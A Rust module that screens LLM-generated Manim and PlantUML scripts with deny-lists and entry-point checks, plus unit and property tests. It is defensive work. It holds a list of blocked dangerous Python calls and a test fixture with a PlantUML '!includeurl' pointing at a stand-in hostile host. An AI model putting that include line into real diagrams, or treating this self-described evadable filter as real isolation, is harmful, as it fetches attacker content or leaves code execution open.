//! Admission policy for LLM-generated scripts before they reach an external tool.
//!
//! This is a substring deny-list plus a structural shape check. It is easy to
//! evade (string concatenation, aliasing, `getattr`) and is not a sandbox: real
//! isolation needs the renderer to run as an unprivileged process or container
//! with resource limits. The renderer at least runs each child in its own
//! process group under a hard timeout.

use regex::Regex;
use std::sync::OnceLock;

use super::types::GeneratedArtifact;
use crate::errors::PolicyError;

const MANIM_DENY_LIST: &[&str] = &[
    "os.system",
    "subprocess",
    "eval",
    "exec",
    "shutil.rmtree",
    "sys.exit",
    "__import__",
    "open(",
    "file(",
    "input(",
    "raw_input(",
    "compile(",
    "globals(",
    "locals(",
];

const MANIM_IMPORT_MARKERS: &[&str] = &["from manim import *", "import manim"];
const MANIM_CANONICAL_IMPORT: &str = "from manim import *";

/// Preprocessor directives that make the PlantUML server fetch or read other content.
const PLANTUML_DENY_LIST: &[&str] = &["!include", "!import", "!pragma"];

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum PolicyKind {
    ManimScene,
    PlantUml,
}

/// A generated artifact that passed the policy. Only [`ScriptPolicy::sanitize`] builds one.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct SanitizedArtifact {
    source: String,
    entry_point: String,
}

impl SanitizedArtifact {
    pub fn source(&self) -> &str {
        &self.source
    }

    /// Name the external tool is told to invoke (scene class, diagram name).
    pub fn entry_point(&self) -> &str {
        &self.entry_point
    }
}

#[derive(Clone, Debug)]
pub struct ScriptPolicy {
    kind: PolicyKind,
}

impl ScriptPolicy {
    pub fn manim() -> Self {
        Self {
            kind: PolicyKind::ManimScene,
        }
    }

    pub fn plantuml() -> Self {
        Self {
            kind: PolicyKind::PlantUml,
        }
    }

    pub fn kind(&self) -> PolicyKind {
        self.kind
    }

    pub fn deny_list(&self) -> &'static [&'static str] {
        match self.kind {
            PolicyKind::ManimScene => MANIM_DENY_LIST,
            PolicyKind::PlantUml => PLANTUML_DENY_LIST,
        }
    }

    fn entry_point_label(&self) -> &'static str {
        match self.kind {
            PolicyKind::ManimScene => "Scene class",
            PolicyKind::PlantUml => "@startuml/@enduml diagram",
        }
    }

    pub fn sanitize(&self, artifact: &GeneratedArtifact) -> Result<SanitizedArtifact, PolicyError> {
        let source = artifact.source.trim();

        if let Some(term) = self.deny_list().iter().find(|term| source.contains(*term)) {
            return Err(PolicyError::Violation {
                term: term.to_string(),
            });
        }

        let entry_point = self
            .find_entry_point(source)
            .ok_or(PolicyError::MissingEntryPoint {
                expected: self.entry_point_label(),
            })?;

        Ok(SanitizedArtifact {
            source: self.normalize(source),
            entry_point,
        })
    }

    fn find_entry_point(&self, source: &str) -> Option<String> {
        match self.kind {
            PolicyKind::ManimScene => {
                static SCENE_RE: OnceLock<Regex> = OnceLock::new();
                let re = SCENE_RE.get_or_init(|| {
                    Regex::new(r"(?m)^class\s+(\w+)\s*\(\s*Scene\s*\)").expect("scene regex")
                });
                re.captures(source)
                    .and_then(|c| c.get(1))
                    .map(|m| m.as_str().to_string())
            }
            PolicyKind::PlantUml => {
                static START_RE: OnceLock<Regex> = OnceLock::new();
                let re = START_RE.get_or_init(|| {
                    Regex::new(r"(?m)^\s*@startuml[ \t]*([^\r\n]*)$").expect("startuml regex")
                });
                let caps = re.captures(source)?;
                let start = caps.get(0)?.end();
                if !source[start..].contains("@enduml") {
                    return None;
                }
                let name = caps.get(1).map_or("", |m| m.as_str().trim());
                Some(if name.is_empty() {
                    "diagram".to_string()
                } else {
                    name.to_string()
                })
            }
        }
    }

    fn normalize(&self, source: &str) -> String {
        match self.kind {
            PolicyKind::ManimScene => {
                if MANIM_IMPORT_MARKERS.iter().any(|m| source.contains(m)) {
                    source.to_string()
                } else {
                    format!("{MANIM_CANONICAL_IMPORT}\n\n{source}")
                }
            }
            PolicyKind::PlantUml => source.to_string(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn artifact(source: &str) -> GeneratedArtifact {
        GeneratedArtifact {
            source: source.to_string(),
            explanation: String::new(),
        }
    }

    const BALL: &str = "class BouncingBall(Scene):\n    def construct(self):\n        self.play(Create(Circle()))";

    #[test]
    fn accepts_scene_and_prepends_import() {
        let sanitized = ScriptPolicy::manim().sanitize(&artifact(BALL)).unwrap();
        assert_eq!(sanitized.entry_point(), "BouncingBall");
        assert!(sanitized.source().starts_with("from manim import *\n\n"));
        assert!(sanitized.source().ends_with(BALL));
    }

    #[test]
    fn existing_import_is_left_alone() {
        let src = format!("from manim import *\n\n{BALL}");
        let sanitized = ScriptPolicy::manim().sanitize(&artifact(&src)).unwrap();
        assert_eq!(sanitized.source(), src);
    }

    #[test]
    fn process_spawn_is_rejected_with_term() {
        let src = format!("import subprocess\n{BALL}");
        let err = ScriptPolicy::manim().sanitize(&artifact(&src)).unwrap_err();
        assert_eq!(
            err,
            PolicyError::Violation {
                term: "subprocess".to_string()
            }
        );
    }

    #[test]
    fn missing_scene_class_is_rejected() {
        let err = ScriptPolicy::manim()
            .sanitize(&artifact("class Helper(object):\n    pass"))
            .unwrap_err();
        assert!(matches!(err, PolicyError::MissingEntryPoint { .. }));
    }

    #[test]
    fn nested_scene_class_does_not_count() {
        let src = "def f():\n    class Inner(Scene):\n        pass";
        assert!(ScriptPolicy::manim().sanitize(&artifact(src)).is_err());
    }

    #[test]
    fn plantuml_requires_start_and_end() {
        let policy = ScriptPolicy::plantuml();
        let ok = policy
            .sanitize(&artifact("@startuml Shop\n[Web] --> [API]\n@enduml"))
            .unwrap();
        assert_eq!(ok.entry_point(), "Shop");

        let unnamed = policy
            .sanitize(&artifact("@startuml\n[Web] --> [API]\n@enduml"))
            .unwrap();
        assert_eq!(unnamed.entry_point(), "diagram");

        assert!(matches!(
            policy.sanitize(&artifact("@startuml\n[Web] --> [API]")),
            Err(PolicyError::MissingEntryPoint { .. })
        ));
    }

    #[test]
    fn plantuml_include_is_rejected() {
        let err = ScriptPolicy::plantuml()
            .sanitize(&artifact(
                "@startuml\n!includeurl http://evil/x.puml\n@enduml",
            ))
            .unwrap_err();
        assert_eq!(
            err,
            PolicyError::Violation {
                term: "!include".to_string()
            }
        );
    }

    proptest! {
        #[test]
        fn any_denied_term_is_rejected(
            idx in 0..MANIM_DENY_LIST.len(),
            prefix in "[a-z \n]{0,20}",
            suffix in "[a-z \n]{0,20}",
        ) {
            let term = MANIM_DENY_LIST[idx];
            let src = format!("{prefix}{term}{suffix}\n{BALL}");
            let is_violation = matches!(
                ScriptPolicy::manim().sanitize(&artifact(&src)),
                Err(PolicyError::Violation { .. })
            );
            prop_assert!(is_violation);
        }

        #[test]
        fn sources_without_scene_class_are_rejected(body in "[a-z_ =()\n]{0,120}") {
            let result = ScriptPolicy::manim().sanitize(&artifact(&body));
            prop_assert!(result.is_err());
        }
    }
}
